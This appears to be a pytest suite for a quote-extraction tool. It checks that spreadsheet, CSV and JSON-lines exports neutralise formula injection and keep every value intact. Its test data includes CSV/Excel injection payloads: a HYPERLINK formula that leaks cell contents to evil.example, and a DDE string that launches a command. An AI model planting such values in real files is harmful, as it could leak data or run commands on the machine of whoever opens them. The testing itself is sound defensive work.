"""Hostile values in every field of every input format: nothing executes in any output, nothing is lost.

Formula starts (``= + - @``, a tab, a carriage return), Excel's error codes and leading
apostrophes go into file names, .txt headlines and text, CSV/JSONL metadata and a saved
page's title; the workbook must hold them as string cells only, the CSV with OWASP's
apostrophe, and ``quotes.read_claims`` must give back exactly what went in.
"""
import csv
import html
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import quotes
from quotes.export.safe import FORMULA_STARTS

ROOT = Path(__file__).parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "cmd|' /C calc'!A0",
           "\t=1+1", "\r=2+2", "'=3+3", "'tis", "#N/A"]
META = ("title", "date", "author", "url", "source")


def file_name(value: str) -> str:
    return value.replace("/", "_")  # the only character a Linux file name cannot hold


def body(value: str) -> str:
    return (f'"{value} is the answer," Anna Smith said.\n\n'
            f"Anna Smith, a political analyst, told reporters that the talks had failed.")


def write_corpus(folder: Path) -> dict:
    """One article per hostile value in each format; returns the metadata expected per article id."""
    folder.mkdir()
    expected = {}
    rows = []
    for k, value in enumerate(HOSTILE):
        name = file_name(value)
        (folder / f"{name}.txt").write_text(f"{value} wins the vote in Baku\n\n{body(value)}", encoding="utf-8")
        expected[name] = {}
        page = (f"<!DOCTYPE html><html><head><title>{html.escape(value)}</title>"
                f'<meta property="og:site_name" content="{html.escape(value)}"></head><body><article>'
                f"<h1>{html.escape(value)}</h1><p>{html.escape(body(value))}</p></article></body></html>")
        (folder / f"{name} page.html").write_text(page, encoding="utf-8")
        expected[f"{name} page"] = {"title": value.strip()}  # trafilatura trims a title
        rows.append({"id": f"{value} row", "text": body(value), **{m: value for m in META}})
    with (folder / "corpus.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["id", *META, "text"])
        writer.writeheader()
        writer.writerows(rows)
    with (folder / "corpus.jsonl").open("w", encoding="utf-8") as fh:
        for row in rows:
            fh.write(json.dumps({**row, "id": f"{row['id']} json"}) + "\n")
    for row in rows:
        expected[row["id"]] = expected[f"{row['id']} json"] = {m: row[m] for m in META}
    return expected


def run_cli(*args):
    return subprocess.run([sys.executable, "-m", "quotes", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=600, env={**os.environ, "PYTHONPATH": str(ROOT)})


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    expected = write_corpus(tmp / "in")
    out = {}
    for suffix in (".xlsx", ".csv", ".jsonl"):
        out[suffix] = tmp / "out" / f"claims{suffix}"
        proc = run_cli("extract", str(tmp / "in"), "-o", str(out[suffix]), "--nlp", "spacy", "-q")
        assert proc.returncode == 0, proc.stderr
    return expected, out


def test_every_article_is_read_and_its_claims_written(outputs):
    expected, out = outputs
    claims = quotes.read_claims(out[".jsonl"])
    assert set(claims.article) == set(expected)
    assert all((claims[claims.article == a].speaker == "Anna Smith").sum() >= 2 for a in expected)
    articles = pd.read_excel(out[".xlsx"], sheet_name="Articles", dtype=str, keep_default_na=False)
    assert set(articles.article) == set(expected) and set(articles.status) == {"ok"}


def test_no_cell_of_any_sheet_is_a_formula_or_an_error(outputs):
    path = outputs[1][".xlsx"]
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Claims", "Speakers", "Articles", "About", "Top speakers"]
    types = {(ws.title, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}
    assert {t for _, t in types} <= {"s", "n"}
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert len(sheets) == 5
        for name in sheets:
            assert not re.search(rb"<f[ >]", z.read(name)), name
    text_of = {ws.title: [c.value for row in ws.iter_rows() for c in row] for ws in wb.worksheets}
    for title in ("Claims", "Speakers", "Articles"):  # the hostile text is there, as text
        assert any(isinstance(v, str) and v.startswith(tuple(FORMULA_STARTS)) for v in text_of[title]), title


def test_articles_sheet_keeps_the_metadata_as_written(outputs):
    expected, out = outputs
    articles = openpyxl.load_workbook(out[".xlsx"])["Articles"]
    header = [c.value for c in articles[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in articles.iter_rows(min_row=2)]
    for row in rows:
        meta = expected[row["article"]]
        for column in ("title", "date", "author", "source"):
            if column in meta:
                assert row[column] == meta[column], (row["article"], column)
        assert isinstance(row["claims"], int)  # a number stays a number


def test_csv_has_no_unescaped_field(outputs):
    path = outputs[1][".csv"]
    with path.open(encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert not [f for f in fields if f.startswith(tuple(FORMULA_STARTS))]
    assert "'" + HOSTILE[0] in fields and "''=3+3" in fields and "'tis" in fields


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_values_read_back_are_what_went_in(outputs, suffix):
    expected, out = outputs
    exact = quotes.read_claims(out[".jsonl"])  # JSON lines hold the values as they are
    back = quotes.read_claims(out[suffix])
    pd.testing.assert_frame_equal(back.astype(object), exact.astype(object))
    for _, row in exact.iterrows():
        meta = expected[row.article]
        assert row.title == meta.get("title", row.title)
        if "url" in meta:
            assert row.link == meta["url"]
    assert set(HOSTILE) <= set(exact.title)
